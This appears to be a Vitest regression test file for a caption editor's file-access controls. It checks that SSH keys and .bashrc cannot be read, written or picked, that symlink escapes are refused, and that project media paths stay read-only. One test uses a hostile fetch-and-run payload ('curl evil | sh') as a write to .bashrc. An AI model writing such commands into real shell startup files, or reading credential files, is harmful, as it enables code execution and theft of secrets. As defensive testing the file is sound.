import { execFileSync } from 'node:child_process'
import { promises as fs } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { projectToJson } from '../../../../shared/project/project-file'
import { makeCue, makeDoc } from '../../../helpers/builders'
import { makeTestServices } from '../../../helpers/service-host'

/** A browser-mode home with the files an attacker would want. */
async function homeWithSecrets() {
  const t = await makeTestServices()
  const home = t.work
  await fs.mkdir(path.join(home, '.ssh'))
  await fs.writeFile(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY')
  await fs.writeFile(path.join(home, '.bashrc'), 'echo hello\n')
  await fs.writeFile(path.join(home, 'talk.mp4'), 'not really a video')
  await fs.writeFile(path.join(home, 'notes.vtt'), 'WEBVTT\n')
  const { api, services } = await makeTestServices({ browseRoots: [home] })
  return { ...t, home, api, services }
}

const projectNaming = (media: string) =>
  JSON.stringify(
    projectToJson(
      { title: 'Talk', doc: makeDoc([makeCue(1, 'Hi')]), glossary: [], media: { absolutePath: media } },
      new Date(),
    ),
  )

describe('browser mode reaches only what the editor chose', () => {
  // Bug: browser mode granted the whole home folder, so ~/.ssh/id_rsa could be read and ~/.bashrc written.
  it('never grants the browse roots: dot-files cannot be read, written, listed or picked', async () => {
    const { api, home } = await homeWithSecrets()
    const key = path.join(home, '.ssh', 'id_rsa')
    const bashrc = path.join(home, '.bashrc')
    expect(await api.readCaptionFile({ path: key })).toMatchObject({ ok: false, code: 'not-allowed' })
    expect(await api.writeExport({ path: bashrc, text: 'curl evil | sh' })).toMatchObject({
      ok: false,
      code: 'not-allowed',
    })
    expect(await fs.readFile(bashrc, 'utf8')).toBe('echo hello\n')
    expect(await api.pickFile({ path: key })).toMatchObject({ ok: false, code: 'not-allowed' })
    expect(await api.listFolder({ path: path.join(home, '.ssh') })).toMatchObject({ ok: false, code: 'not-allowed' })
    expect(await api.readCaptionFile({ path: path.join(home, 'notes.vtt') })).toMatchObject({
      ok: false,
      code: 'not-allowed',
    })
  })

  it('grants a picked file for opening, a picked project for writing, and refuses files the chooser never shows', async () => {
    const { api, home, services } = await homeWithSecrets()
    await fs.writeFile(path.join(home, 'talk.eglur'), '{}')
    await fs.writeFile(path.join(home, 'report.docx'), 'x')
    expect(await api.pickFile({ path: path.join(home, 'notes.vtt') })).toMatchObject({ ok: true })
    expect((await api.readCaptionFile({ path: path.join(home, 'notes.vtt') })).ok).toBe(true)
    expect(await api.writeExport({ path: path.join(home, 'notes.vtt'), text: 'x' })).toMatchObject({
      ok: false,
      code: 'not-allowed',
    })
    expect(await api.pickFile({ path: path.join(home, 'talk.eglur') })).toMatchObject({ ok: true })
    expect(services.access.allows(path.join(home, 'talk.eglur'))).toBe(true)
    expect(await api.pickFile({ path: path.join(home, 'report.docx') })).toMatchObject({
      ok: false,
      code: 'not-allowed',
    })
  })

  // Bug: a new file inside a folder that is a symlink to outside the allowed places could be written (the folder's real path was never checked).
  it('refuses a new file inside a folder that links outside', async () => {
    const { api, home, root } = await homeWithSecrets()
    await fs.mkdir(path.join(root, 'elsewhere'))
    await fs.symlink(path.join(root, 'elsewhere'), path.join(home, 'linked'))
    expect(await api.writeExport({ path: path.join(home, 'linked', 'new.vtt'), text: 'x' })).toMatchObject({
      ok: false,
      code: 'not-allowed',
    })
    await expect(fs.access(path.join(root, 'elsewhere', 'new.vtt'))).rejects.toThrow()
  })
})

describe("a project's video", () => {
  // Bug: opening a project put whatever file its media path named on the access list for reading and writing.
  it('is granted for reading only, and only when it is a media file', async () => {
    const { api, home, services } = await homeWithSecrets()
    const bashrc = path.join(home, '.bashrc')
    const evil = path.join(home, 'evil.eglur')
    await fs.writeFile(evil, projectNaming(bashrc))
    services.grantAndOpen([evil])
    expect((await api.openProject({ path: evil })).ok).toBe(true)
    expect(await api.readCaptionFile({ path: bashrc })).toMatchObject({ ok: false, code: 'not-allowed' })
    expect(await api.writeExport({ path: bashrc, text: 'x' })).toMatchObject({ ok: false, code: 'not-allowed' })
    expect(await api.openMedia({ path: bashrc })).toMatchObject({ ok: false, code: 'not-allowed' })
    // A text file named like a video is not media either.
    const fake = path.join(home, 'talk.mp4')
    const fakeProject = path.join(home, 'fake.eglur')
    await fs.writeFile(fakeProject, projectNaming(fake))
    services.grantAndOpen([fakeProject])
    expect((await api.openProject({ path: fakeProject })).ok).toBe(true)
    expect(services.access.allowsRead(fake)).toBe(false)
  })

  it('plays when it is real media, and is never written', async () => {
    const { api, home, services } = await homeWithSecrets()
    const audio = path.join(home, 'Events', 'talk.wav')
    await fs.mkdir(path.dirname(audio))
    execFileSync('ffmpeg', ['-hide_banner', '-loglevel', 'error', '-f', 'lavfi', '-i', 'sine=duration=0.5', audio])
    const project = path.join(home, 'talk.eglur')
    await fs.writeFile(project, projectNaming(audio))
    services.grantAndOpen([project])
    expect(await api.openProject({ path: project })).toMatchObject({ ok: true, opened: { mediaPath: audio } })
    expect((await api.openMedia({ path: audio })).ok).toBe(true)
    const before = await fs.readFile(audio)
    expect(await api.writeExport({ path: audio, text: 'x' })).toMatchObject({ ok: false, code: 'not-allowed' })
    expect(await api.createProject({ path: audio, project: JSON.parse(projectNaming(audio)) })).toMatchObject({
      ok: false,
      code: 'not-allowed',
    })
    expect(await fs.readFile(audio)).toEqual(before)
    // Not chosen by the editor: nothing beside it is offered.
    expect(await api.findProjectBeside({ mediaPath: audio })).toMatchObject({ ok: false, code: 'not-allowed' })
  })

  it("checks a project's video with ffmpeg once: reopening the project asks ffmpeg nothing", async () => {
    const first = await makeTestServices()
    const audio = path.join(first.work, 'talk.wav')
    execFileSync('ffmpeg', ['-hide_banner', '-loglevel', 'error', '-f', 'lavfi', '-i', 'sine=duration=0.5', audio])
    // An ffmpeg that notes each run, then does the real work.
    const runs = path.join(first.root, 'ffmpeg-runs')
    const ffmpeg = path.join(first.root, 'counting-ffmpeg')
    await fs.writeFile(ffmpeg, `#!/bin/sh\necho run >> '${runs}'\nexec ffmpeg "$@"\n`, { mode: 0o755 })
    const count = async () => (await fs.readFile(runs, 'utf8').catch(() => '')).split('\n').filter(Boolean).length
    const project = path.join(first.work, 'talk.eglur')
    await fs.writeFile(project, projectNaming(audio))
    const openBoth = async (t: Awaited<ReturnType<typeof makeTestServices>>) => {
      t.services.grantAndOpen([project])
      expect(await t.api.openProject({ path: project })).toMatchObject({ ok: true, opened: { mediaPath: audio } })
      expect(await t.api.openMedia({ path: audio })).toMatchObject({ ok: true, media: { hasAudio: true } })
      await t.api.closeProject({ path: project })
    }
    await openBoth(await makeTestServices({ ffmpeg, dataDir: first.data }))
    expect(await count()).toBe(1)
    // The app started again on the same data folder: the project and its video open without ffmpeg.
    await openBoth(await makeTestServices({ ffmpeg, dataDir: first.data }))
    expect(await count()).toBe(1)
  })
})
